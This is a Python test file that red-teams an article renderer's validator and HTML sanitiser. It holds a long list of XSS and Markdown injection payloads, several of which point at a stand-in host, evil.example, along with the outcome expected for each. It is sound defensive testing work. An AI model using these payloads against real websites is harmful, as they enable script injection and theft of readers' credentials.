"""Red team: attacks on an article's text and what stops each. They come from the usual cheat
sheets (OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the mutation XSS
papers) and from Markdown's own syntax (links, references, automatic links, attribute lists,
footnotes, tables, md_in_html), written as an editor could write them in an article.

For every one, the HTML a reader would get from the build is safe (``unsafe`` finds nothing in
it), and the outcome is the expected one:

- ``both``: ``dossier check`` reports it, and the sanitiser removes it from the rendered text;
- ``check``: ``dossier check`` reports it; Markdown renders it as text, or the sanitiser keeps
  or repairs it (closes an open tag), so there is nothing to remove;
- ``replaced``: allowed; the sanitiser replaces what the editor wrote with Dossier's own values
  (an embed's sandbox and permissions);
- ``inert``: text, never HTML (code, entities, titles): check reports nothing, the sanitiser
  removes nothing.

No attack is ``sanitiser`` (stopped by the sanitiser alone, which the check missed): a new one
that is gets that outcome here, and the check is mended.
"""

from __future__ import annotations

from collections import Counter

import markdown
import pytest
from dossier.render.body import Sanitiser, markdown_options, render_body
from dossier.validate.body import body_problems

from ..support.unsafe_html import unsafe
from .test_html_policy import HOSTS, MARKDOWN

ATTACKS = [
    ("script-inline", "Hello <script>alert(1)</script> there", "both"),
    ("script-block", "<script>alert(1)</script>", "both"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>", "both"),
    ("script-src", "<script src=//evil.example/x.js></script>", "both"),
    ("script-nested-split", "<scr<script>ipt>alert(1)</script>", "both"),
    ("script-newline-in-tag", "x <script\n>alert(1)</script>", "check"),
    ("script-backslash-escaped", "\\<script>alert(1)</script>", "both"),
    ("script-comment-split", "<scr<!-- -->ipt>alert(1)</script>", "both"),
    ("svg-onload", "<svg onload=alert(1)>", "both"),
    ("svg-script", "<svg><script>alert(1)</script></svg>", "both"),
    (
        "svg-a-xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
        "both",
    ),
    ("math-href", '<math href="javascript:alert(1)">x</math>', "both"),
    ("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "both"),
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "both"),
    ("iframe-javascript", '<iframe src="javascript:alert(1)" title="x"></iframe>', "both"),
    (
        "iframe-srcdoc",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" title="x"></iframe>',
        "both",
    ),
    ("iframe-other-host", '<iframe src="https://evil.example/" title="x"></iframe>', "both"),
    (
        "iframe-host-suffix",
        '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x" title="x"></iframe>',
        "both",
    ),
    (
        "iframe-userinfo",
        '<iframe src="https://www.youtube-nocookie.com@evil.example/embed/x" title="x"></iframe>',
        "both",
    ),
    (
        "iframe-backslash",
        '<iframe src="https://evil.example\\@www.youtube-nocookie.com/embed/x" title="x"></iframe>',
        "both",
    ),
    (
        "iframe-protocol-relative",
        '<iframe src="//www.youtube-nocookie.com/embed/x" title="x"></iframe>',
        "both",
    ),
    (
        "iframe-http",
        '<iframe src="http://www.youtube-nocookie.com/embed/x" title="x"></iframe>',
        "both",
    ),
    (
        "iframe-port",
        '<iframe src="https://www.youtube-nocookie.com:8443/embed/x" title="x"></iframe>',
        "both",
    ),
    (
        "iframe-no-title",
        '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>',
        "check",
    ),
    (
        "iframe-sandbox-widened",
        (
            '<iframe src="https://www.youtube-nocookie.com/embed/x" title="v" '
            'sandbox="allow-scripts allow-same-origin allow-top-navigation allow-forms '
            'allow-modals">'
            "</iframe>"
        ),
        "replaced",
    ),
    (
        "iframe-allow-camera",
        (
            '<iframe src="https://www.youtube-nocookie.com/embed/x" title="v" '
            'allow="camera; microphone; geolocation"></iframe>'
        ),
        "replaced",
    ),
    (
        "iframe-name",
        '<iframe src="https://www.youtube-nocookie.com/embed/x" title="v" name="x"></iframe>',
        "both",
    ),
    (
        "iframe-unclosed",
        (
            '<iframe src="https://www.youtube-nocookie.com/embed/x" title="v">\n\n'
            "The rest of the article."
        ),
        "check",
    ),
    ("object-data", '<object data="javascript:alert(1)"></object>', "both"),
    ("embed-src", '<embed src="javascript:alert(1)">', "both"),
    ("form-input", '<form action="https://evil.example/"><input name="password"></form>', "both"),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>', "both"),
    ("base-href", '<base href="https://evil.example/">', "both"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "both"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "both"),
    ("style-element", "<style>body{background:url(https://evil.example/)}</style>", "both"),
    ("img-onerror", "<img src=x onerror=alert(1)>", "both"),
    ("img-onerror-self-closing", '<img src="x" onerror="alert(1)"/>', "both"),
    ("img-slash-separators", "<img/src=x/onerror=alert(1)>", "inert"),
    ("img-onerror-spaces", '<img src="x" onerror  =  "alert(1)">', "both"),
    ("img-onerror-newline", "x <img src=x\nonerror=alert(1)> y", "both"),
    ("img-onerror-no-close", "<img src=x onerror=alert(1)//", "inert"),
    ("img-src-javascript", '<img src="javascript:alert(1)">', "both"),
    ("img-srcset", '<img src="x.png" srcset="javascript:alert(1) 2x">', "both"),
    (
        "img-map-area",
        (
            '<img src="x.png" usemap="#m"><map name="m">'
            '<area href="javascript:alert(1)" shape="rect" coords="0,0,9,9"></map>'
        ),
        "both",
    ),
    ("a-javascript", '<a href="javascript:alert(1)">x</a>', "both"),
    ("a-leading-spaces", '<a href="  javascript:alert(1)">x</a>', "both"),
    ("a-leading-entity-space", '<a href="&#x20;javascript:alert(1)">x</a>', "both"),
    ("a-tab-entity", '<a href="java&#x09;script:alert(1)">x</a>', "both"),
    ("a-newline-entity", '<a href="java&#x0A;script:alert(1)">x</a>', "both"),
    ("a-control-leading", '<a href="&#x01;javascript:alert(1)">x</a>', "both"),
    ("a-hex-entity", '<a href="jav&#x61;script:alert(1)">x</a>', "both"),
    ("a-colon-entity", '<a href="javascript&colon;alert(1)">x</a>', "both"),
    (
        "a-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        "both",
    ),
    ("a-padded-entity-no-semicolon", '<a href="&#0000106avascript:alert(1)">x</a>', "both"),
    ("a-mixed-case-scheme", '<a href="JaVaScRiPt:alert(1)">x</a>', "both"),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>', "both"),
    (
        "a-data-html",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        "both",
    ),
    ("a-unquoted", "<a href=javascript:alert(1)>x</a>", "both"),
    ("a-single-quotes", "<a href='javascript:alert(1)'>x</a>", "both"),
    ("a-onclick", '<a href="https://example.org/" onclick="alert(1)">x</a>', "both"),
    ("a-quoted-gt-split", '<a href="x>" onmouseover=alert(1)//>y</a>', "both"),
    ("a-newline-before-href", '<a\nhref="javascript:alert(1)">x</a>', "both"),
    ("a-target-blank", '<a href="https://example.org/" target="_blank">x</a>', "both"),
    ("a-name-clobbering", '<a name="pagefind" href="#x">x</a>', "both"),
    ("a-duplicate-href", '<a href="https://example.org/" href="javascript:alert(1)">x</a>', "both"),
    ("q-cite-javascript", '<q cite="javascript:alert(1)">x</q>', "both"),
    ("blockquote-cite-javascript", '<blockquote cite="javascript:alert(1)">x</blockquote>', "both"),
    ("span-style-url", '<span style="background:url(javascript:alert(1))">x</span>', "both"),
    (
        "p-style-overlay",
        '<p style="position:fixed;inset:0;background:white">Log in again</p>',
        "both",
    ),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary>y</details>", "both"),
    ("span-class-id", '<span class="skip" id="main">x</span>', "both"),
    (
        "table-background",
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
        "both",
    ),
    ("unknown-tag-handler", "<x onclick=alert(1)>y</x>", "both"),
    ("bogus-javascript-tag", "<javascript:alert(1)>", "both"),
    ("textarea-breakout", "<textarea><script>alert(1)</script></textarea>", "both"),
    ("comment-script", "<!-- <script>alert(1)</script> -->", "both"),
    ("comment-abrupt", "<!--><script>alert(1)</script>-->", "both"),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert(1)> -->", "both"),
    ("comment-unclosed", "a <!-- unclosed <script>alert(1)</script>", "both"),
    ("comment-private-note", "<!-- source: the driver, do not name -->", "both"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>", "both"),
    ("processing-instruction", '<?xml version="1.0"?>', "both"),
    ("doctype", "<!DOCTYPE html>", "both"),
    ("unclosed-b", "<b>Breaking news\n\nThe rest of the article.", "check"),
    ("unclosed-details", "<details><summary>More</summary>\n\nThe rest of the article.", "check"),
    ("md-link-javascript", "[x](javascript:alert(1))", "both"),
    ("md-link-angle", "[x](<javascript:alert(1)>)", "both"),
    ("md-link-spaces", "[x]( javascript:alert(1) )", "both"),
    ("md-link-entity", "[x](jav&#x61;script:alert(1))", "both"),
    ("md-link-newline", "[x](java\nscript:alert(1))", "both"),
    ("md-link-colon-entity", "[x](javascript&colon;alert(1))", "both"),
    ("md-link-upper", "[x](JAVASCRIPT:alert(1))", "both"),
    ("md-link-title-breakout", '[x](https://example.org/ "a\\" onmouseover=\\"alert(1)")', "inert"),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.org/)", "both"),
    ("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "both"),
    ("md-image-javascript", "![x](javascript:alert(1))", "both"),
    ("md-image-alt-html", "![<img src=x onerror=alert(1)>](y.png)", "check"),
    ("md-reference", "[x][r]\n\n[r]: javascript:alert(1)", "both"),
    ("md-reference-angle", "[x][r]\n\n[r]: <javascript:alert(1)>", "both"),
    ("md-autolink-javascript", "<javascript://%0aalert(1)>", "both"),
    ("md-autolink-mixed-case", "<JavaScript://x%0aalert(1)>", "both"),
    ("md-autolink-vbscript", "<vbscript://x%0amsgbox(1)>", "both"),
    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>", "both"),
    ("md-autolink-ftp", "<ftp://example.org/file>", "both"),
    ("attr-list-block", "Para\n{: onclick=alert(1) }", "both"),
    ("attr-list-heading", "## H {: onmouseover=alert(1) }", "both"),
    ("attr-list-setext", "Setext {: onclick=alert(1) }\n======", "both"),
    ("attr-list-inline", '*x*{: style="position:fixed;inset:0" }', "both"),
    ("attr-list-image", "![x](y.png){: onerror=alert(1) }", "both"),
    ("attr-list-link-href", "[x](https://example.org/){: href=javascript:alert(1) }", "both"),
    ("attr-list-uppercase", "[x](https://example.org/){: ONCLICK=alert(1) }", "both"),
    ("attr-list-table-cell", "| a {: onclick=alert(1) } |\n|---|\n| b |", "both"),
    ("attr-list-definition-term", "Term {: onclick=alert(1) }\n:   Definition", "both"),
    ("attr-list-list-item", "- a\n{: onclick=alert(1) }", "both"),
    ("attr-list-blockquote", "> quote\n{: onclick=alert(1) }", "both"),
    ("attr-list-id-class", "Para\n{: #main .skip }", "both"),
    ("fence-attrs", "``` { .python onclick=alert(1) #x }\ncode\n```", "both"),
    ("footnote-html", "Text[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "both"),
    (
        "footnote-continuation",
        "Text[^1]\n\n[^1]: First.\n\n    <img src=x onerror=alert(1)>",
        "both",
    ),
    ("heading-html", "# <img src=x onerror=alert(1)>", "both"),
    ("table-cell-html", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "both"),
    ("definition-html", "Term\n:   <img src=x onerror=alert(1)>", "both"),
    ("list-item-html", "- <img src=x onerror=alert(1)>", "both"),
    ("blockquote-html", "> <img src=x onerror=alert(1)>", "both"),
    ("md-in-html-link", '<div markdown="1">\n[x](javascript:alert(1))\n</div>', "both"),
    ("backticks-in-attribute", '<img title="`" src=x onerror=alert(1) alt="`">', "both"),
    ("tab-indented-line", "\t<script>alert(1)</script>", "inert"),
    ("escaped-backticks", "\\`<img src=x onerror=alert(1)>\\`", "both"),
    ("double-backslash-backtick", "\\\\`<img src=x onerror=alert(1)>`", "inert"),
    (
        "nested-raw-in-md-block",
        '<div markdown="1">\n<details>\n`<img src=x onerror=alert(1)>`\n</details>\n</div>',
        "both",
    ),
    ("attr-list-quoted-brace", 'Para\n{: title="}" onclick=alert(1) }', "both"),
    ("raw-code-element", "<code><script>alert(1)</script></code>", "both"),
    ("unclosed-fence", "```\n<img src=x onerror=alert(1)>", "both"),
    (
        "raw-block-mid-paragraph",
        "Some text\n<details>\n`<img src=x onerror=alert(1)>`\n</details>",
        "both",
    ),
    (
        "raw-block-after-close-same-line",
        "<details><summary>x</summary></details> `<img src=x onerror=alert(1)>`",
        "inert",
    ),
    ("code-span-across-lines", "`a\n<img src=x onerror=alert(1)>\nb`", "inert"),
    ("code-span-unbalanced", "``x` <img src=x onerror=alert(1)>", "both"),
    ("indented-after-paragraph-no-blank", "Para\n    <img src=x onerror=alert(1)>", "both"),
    ("indented-after-list-4", "- item\n\n    <img src=x onerror=alert(1)>", "both"),
    ("indented-in-blockquote", ">     <img src=x onerror=alert(1)>", "inert"),
    (
        "html-in-link-reference-title",
        '[x][r]\n\n[r]: https://example.org/ "<img src=x onerror=alert(1)>"',
        "inert",
    ),
    ("footnote-in-code-like", "Text[^1]\n\n[^1]:\n    <img src=x onerror=alert(1)>", "both"),
    ("hr-raw-block", "<hr onclick=alert(1)>", "both"),
    ("p-raw-block", "<p onclick=alert(1)>x</p>", "both"),
    ("table-raw-td-style", '<table><tr><td style="text-align: left;">x</td></tr></table>', "check"),
    ("entity-in-attr-name", "<img src=x on&#101;rror=alert(1)>", "both"),
    (
        "details-summary-markdown-attr",
        "<details markdown>\n<summary>S</summary>\n\n[x](javascript:alert(1))\n</details>",
        "both",
    ),
    ("abbr-with-html", '*[X]: x" onmouseover="alert(1)\n\nX here', "inert"),
    ("smarty-in-url", "[x](javascript:alert(1)--)", "both"),
    ("link-nested-brackets", "[a [b] c](javascript:alert(1))", "both"),
    ("image-in-link", "[![a](y.png)](javascript:alert(1))", "both"),
    ("link-in-heading", "## [x](javascript:alert(1))", "both"),
    ("link-in-table", "| a |\n|---|\n| [x](javascript:alert(1)) |", "both"),
    ("ref-def-indented-3", "[x][r]\n\n   [r]: javascript:alert(1)", "both"),
    ("html-block-indented-3", "   <script>alert(1)</script>", "both"),
    (
        "md-in-html-img",
        '<details markdown="1">\n<summary>x</summary>\n\n<img src=x onerror=alert(1)>\n</details>',
        "both",
    ),
    (
        "raw-block-backticks",
        "<details>\n<summary>x</summary>\n`<img src=x onerror=alert(1)>`\n</details>",
        "both",
    ),
    (
        "inert-code-span",
        "`<script>alert(1)</script>` and ``<img src=x onerror=alert(1)>``",
        "inert",
    ),
    ("inert-fenced", "```\n<script>alert(1)</script>\n```", "inert"),
    ("inert-tilde-fenced", '~~~html\n<iframe src="https://evil.example/"></iframe>\n~~~', "inert"),
    ("inert-indented", "Para\n\n    <script>alert(1)</script>", "inert"),
    ("inert-indented-in-list", "- item\n\n        <script>alert(1)</script>", "inert"),
    ("inert-entities", "&lt;script&gt;alert(1)&lt;/script&gt; and &amp;lt;img&amp;gt;", "inert"),
    ("inert-fullwidth", "＜script＞alert(1)＜/script＞", "inert"),
    ("inert-abbreviation-title", "*[UN]: <img src=x onerror=alert(1)>\n\nThe UN met.", "inert"),
    ("inert-lone-angle", "a < b and c > d", "inert"),
    ("inert-link-title-quotes", "[x](https://example.org/ 'it\"s <b onclick=x>')", "inert"),
    ("inert-attr-list-mid-paragraph", "Para {x=1} in the middle\nof a paragraph.", "inert"),
    ("inert-entity-nul", '<a href="&#0;javascript:alert(1)">x</a>', "inert"),
]

OUTCOMES = {"both", "check", "replaced", "inert", "sanitiser"}


@pytest.fixture(scope="module")
def render():
    md = markdown.Markdown(**markdown_options(MARKDOWN))
    sanitiser = Sanitiser(HOSTS)
    return lambda text: render_body(text, md, sanitiser)


@pytest.mark.parametrize(("name", "text", "expected"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_the_attack_is_stopped(name: str, text: str, expected: str, render) -> None:
    reported = bool(body_problems(text, HOSTS))
    body = render(text)
    assert unsafe(body.html, HOSTS) == []
    if expected == "replaced":
        assert not reported
        assert not body.removed
        return
    outcome = {
        (True, True): "both",
        (True, False): "check",
        (False, True): "sanitiser",
        (False, False): "inert",
    }[reported, bool(body.removed)]
    assert outcome == expected, body.removed


def test_the_attacks_are_named_once_with_a_known_outcome() -> None:
    names = Counter(name for name, _, _ in ATTACKS)
    assert [name for name, n in names.items() if n > 1] == []
    assert {outcome for _, _, outcome in ATTACKS} <= OUTCOMES
    assert not [name for name, _, outcome in ATTACKS if outcome == "sanitiser"]
